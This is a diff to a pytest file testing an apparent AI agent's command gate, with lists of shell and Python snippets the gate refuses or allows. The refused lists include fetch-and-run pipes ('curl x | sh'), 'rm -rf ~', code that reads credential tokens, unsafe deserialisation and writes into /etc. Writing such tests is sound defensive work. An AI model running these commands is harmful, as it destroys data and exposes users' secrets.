@@ -10,13 +10,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from ml_agent.answer_gate import all_powers as powers
 from ml_agent.answer_gate import is_refused
 from ml_agent.draft import Draft
 from ml_agent.proof import examine
 from ml_agent.request import Request
 from tests.terminal import on_terminal
 from tools.candidates import Candidate
-from tools.check.powers import powers
 from tools.index import RepoIndex
 
 PROMISE = (
@@ -70,6 +70,13 @@ REFUSED = [
     "function f { rm -rf ~; }; f", "f() { rm -rf ~; }; f", "find . -exec curl x.invalid \\;", "awk 'BEGIN{system(1)}'",
     "git -c alias.x='!curl x' x", "python -Sc 'import os; os.system(1)'", "perl -ne 'system(1)' x", "fish -c 'curl x'",
     "busybox sh -c 'curl x'", "exec rm -rf ~", "python fit.py --name $(date -f x)", "python fit.py --name $(nproc; id)",
+    "awk '{print > \"x\"}' f", "awk '{print \"}\" > \"x\"}' f", "awk '$1 > 5 {printf \"a\" >> \"x\"}' f", "awk '{print | \"sh\"}' f",
+    "awk '/\"/ {print > \"x\"}' f", "awk -F , '{\"id\" | getline x}' f", "awk 'BEGIN {f = \"system\"; @f(\"id\")}'", "find . -exec rm {} +",
+    "find . -name x -exec cat {} \\; -exec sh -c id \\;", "find . -exec ./grep {} +", "find . -execdir tee x \\;", "mkdir -p /data/out", "ln -s /data/x data",
+    "> log bash -c 'curl x | sh'", "2>&1 sh", "<f A=1 2>&1 bash", "A=1 >log B=2 <f sh", "A=1 2>x sh -c 'eval x'", "{fd}>x sh", "{fd}<f bash",
+    "{fd}>x rm -rf ~", "{fd}>~/x python fit.py", "python fit.py {fd}>~/x", "A=1 {fd}>&- eval x", "bash -s < f", "bash -s x <<E\nid\nE",
+    "<f bash -xs", "<f sh -s -- a", "true; > log bash -c 'eval x'", "> log A=1 >m eval x", "! <f bash", "while <f bash; do :; done",
+    "timeout 5 >log bash -c 'eval x'", "10>log bash -s", "{ <f bash; }", "sh -c >log 'eval x'",
     "python fit.py --name a" + "a" * 100_000, "python fit.py --name a\u2066b", "python fit.py --name a\U000e0041b", "python fit.py --name a\u061cb",
 ]  # fmt: skip
 FINE = [
@@ -88,10 +95,15 @@ FINE = [
     "python fit.py --data $(pwd)/data > log_$(date +%F).txt", "exec python fit.py --lr 1", "python fit.py --by $SORT_KEY",
     "cd src\npython fit.py > log.txt", "cd src && python fit.py | tee ../log", "perl tokenizer.perl -threads 4 -escape",
     "> python fit.py --lr 1", "tar xzf data.tgz -C data", "wget -q https://x.invalid/a.zip -O a.zip && unzip a.zip -d data",
+    "> log bash -c 'python fit.py > i'", "2>&1 python fit.py", "A=1 >log B=2 python fit.py", "{fd}>log python fit.py",
+    "bash -c 'curl x.invalid/a.zip >a.zip'", "python fit.py --name {x}", "echo {a,b}",
+    "awk '$1 > 5' f", "awk -F'|' 'NR>1 && ($2 >= 3 || $3 > 1) {print $1}' f.csv > g", "awk '{a[$1]++} END {for (i in a) if (a[i] > 1) print i}' f",
+    "find . -name '*.py' -exec grep -n x {} \\;", "find data -type f -exec wc -l {} +", "mkdir -p out/a", "ln -s data/x data", "ln -sfn a/b c",
     "python fit.py \\\n\t--lr 1", "python fit.py\r\n",
 ]  # fmt: skip
 
 REFUSED_PYTHON = [
+    "from pathlib import Path\nPath('a').rename('/etc/x')", "from pathlib import Path\nPath('/etc/x').replace('a')", "from pathlib import Path\nPath('a').replace(target='~/x')", "from pathlib import Path\nPath('a').symlink_to('/etc')", "from pathlib import Path\nPath('a').hardlink_to('/etc/x')", "from pathlib import Path\np = Path('/etc/x')\np.rename('a')", "import shutil\nshutil.unpack_archive('a.zip', '/etc')", "import shutil\nshutil.make_archive('/etc/x', 'zip', 'a')", "import shutil\nshutil.copy(dst='/etc/x', src='a')", "import zipfile\nzipfile.ZipFile('a').extractall('/etc')", "import tarfile\nwith tarfile.open('a') as t:\n    t.extractall(path='~')", "import tarfile\ntarfile.open('a').extract('m', '/etc')", "import yaml\nyaml.load('!!python/object/apply:f []', Loader=yaml.Loader)", "import yaml\nyaml.unsafe_load('!!python/object/apply:f []')", "import io, pickle\npickle.load(io.BytesIO(b'x'))", "import base64, io, torch\ntorch.load(io.BytesIO(base64.b64decode('eA==')))", "import jsonpickle\njsonpickle.decode(x)", "import huggingface_hub\nhuggingface_hub.get_token()", "from huggingface_hub import HfFolder\nHfFolder.get_token()", "from huggingface_hub.utils import get_token as g\nprint(g())", "import netrc\nnetrc.netrc()", "from keyring import get_password\nget_password('a', 'b')", "import openai\nprint(openai.api_key)", "import webbrowser\nwebbrowser.open('http://x.invalid')", "import urllib.request\nurllib.request.urlretrieve('http://x.invalid', '/etc/x')", "from distutils.dir_util import remove_tree\nremove_tree('/etc')",
     "import os\nos.system('id')", "from os import system as s\ns('id')", "from os import *\nsystem('id')", "import os\nos.popen('id').read()",
     "import subprocess as sp\nsp.run(['id'])", "from subprocess import check_output\nf = check_output", "import os as o\no.execvp('id', [])",
     "import os\nos.spawnlp(0, 'id')", "import torch\ntorch.os.system('id')", "import os.path\nos.path.os.system('id')",
@@ -121,6 +133,7 @@ REFUSED_PYTHON = [
     "import os\nprint 'x'\nos.system('id')", "x = 'z\x1b]52;c;eA==\x07'", "x = 'txt.\u202eexe'",
 ]  # fmt: skip
 FINE_PYTHON = [
+    "import pickle\npickle.load(open('a.pkl', 'rb'))", "import torch\ntorch.load('a.pt')", "import torch\ntorch.hub.load('a/b', 'c', source='github')", "import yaml\nyaml.load(open('f.yaml'), Loader=yaml.FullLoader)", "import yaml\nyaml.load('a: 1', Loader=yaml.SafeLoader)", "import yaml\nyaml.unsafe_load(open('f.yaml'))", "from huggingface_hub import login, notebook_login\nlogin()", "import getpass\nuser = getpass.getuser()", "import zipfile\nzipfile.ZipFile('a.zip').extractall('data')", "from pathlib import Path\nPath('a').rename('b')\nPath('out').mkdir(parents=True, exist_ok=True)", "x = '/a/b'.replace('/', '_')", "x = name.replace('~', '')", "df = df.rename(columns={'a': 'b'})", "features = extractor.extract(audio, '/x')", "import os\nos.makedirs('out/a', exist_ok=True)", "import openai\nopenai.api_key = 'x'", "import io, pickle\npickle.load(io.BytesIO(data))", "import shutil\nshutil.copy(src='/data/x', dst='a')", "import importlib\nimportlib.import_module('a.b')",
     "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'", "import os\nos.environ.get('RANK', 0)", "import os\nos.makedirs('/out', exist_ok=True)",
     "import os\nos.environ['OPENAI_API_KEY'] = 'x'", "import os\nif 'HF_TOKEN' in os.environ: pass", "import os\nos.environ.update(A='1')",
     "model.eval()", "model.compile(optimizer='sgd')", "import re\nre.compile('x')", "import torch\ntorch.compile(f)", "import platform\nplatform.python_version()",
@@ -145,11 +158,6 @@ def test_python_that_does_more_than_call_the_repository_is_refused(text: str, tm
     assert not is_refused(own), "what the user wrote is the user's"
 
 
-@pytest.mark.promise("Python that is nested deep is judged without an error.", by=BY)
-def test_a_long_chain_of_names_is_judged() -> None:
-    assert powers("a" + ".b" * 990, kind="python") == []
-
-
 @pytest.mark.promise("What users ordinarily write is not refused.", by=BY)
 @pytest.mark.parametrize("text", FINE_PYTHON)
 def test_ordinary_python_passes(text: str) -> None:
@@ -166,6 +174,30 @@ def test_what_does_more_than_run_a_program_is_refused(text: str, tmp_path: Path)
     assert is_refused(draft) and not draft.sound
     own = examine(Draft(kind="bash", text=text), Request(instruction=f"please run {text}"), workspace)
     assert not is_refused(own), "what the user wrote is the user's"
+
+
+NAMED = "evaluate the pictures in /data/coco and put all of it into /data/out."
+MADE = [
+    "mkdir -p /data/out",
+    "mkdir -p /data/out/ && python fit.py --lr 1",
+    "ln -s /data/coco data && python fit.py",
+    "ln -s /data/coco/ coco",
+    "ln -sfn /data/coco coco",
+]
+NOT_MADE = [
+    "mkdir -p /data", "mkdir -p /data/out/x", "mkdir -p /data/out /etc/x", "ln -s /data/coco ~/x", "rm -rf /data/coco", "mv x /data/out",
+    "ln -s /data/coco d && rm -rf d/*", "ln -s /data/coco d; cp x d/x", "ln -s /data/coco d; python fit.py > d/x", "cd /data/out && touch x",
+    "sudo mkdir /data/out", "ln -sf x /data/coco", "ln -sf -t /data/out x", "ln -s --force x /data/out/", "python fit.py > /data/coco",
+]  # fmt: skip
+
+
+@pytest.mark.promise("Folders and links elsewhere are made where the user names them.", by=BY)
+@pytest.mark.parametrize("text", [*MADE, *NOT_MADE])
+def test_folders_and_links_that_the_user_names(text: str, tmp_path: Path) -> None:
+    workspace = _workspace(RepoIndex.open(tmp_path, "0"))
+    named = examine(Draft(kind="bash", text=text), Request(instruction=NAMED), workspace)
+    assert is_refused(named) == (text in NOT_MADE), named.findings
+    assert is_refused(examine(Draft(kind="bash", text=text), Request(instruction="evaluate it"), workspace))
 
 
 def _workspace(index: RepoIndex):  # type: ignore[no-untyped-def]
